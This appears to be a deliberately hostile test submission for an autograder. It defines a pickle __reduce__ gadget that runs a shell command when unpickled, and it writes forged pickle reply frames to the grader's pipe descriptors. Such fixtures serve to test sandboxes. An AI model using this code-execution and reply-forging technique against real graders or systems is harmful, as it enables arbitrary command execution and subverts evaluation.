"""Hostile: return objects whose conversion could unpickle, and write a pickle frame to the reply pipe."""
import json
import os
import pickle
import struct

import numpy as np

from honest import *  # noqa: F403


class Boom:
    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/autograder-pwned",))


def mse_loss(y_hat, y):
    payload = pickle.dumps(Boom())
    header = json.dumps({"status": "ok", "names": ["return"], "problems": {},
                         "arrays": [{"dtype": "|O", "shape": [1]}], "stdout": ""}).encode()
    for fd in range(3, 12):  # the reply pipe is among these
        try:
            os.write(fd, struct.pack(">II", len(header), len(payload)) + header + payload)
        except OSError:
            pass
    return np.array([Boom()], dtype=object)
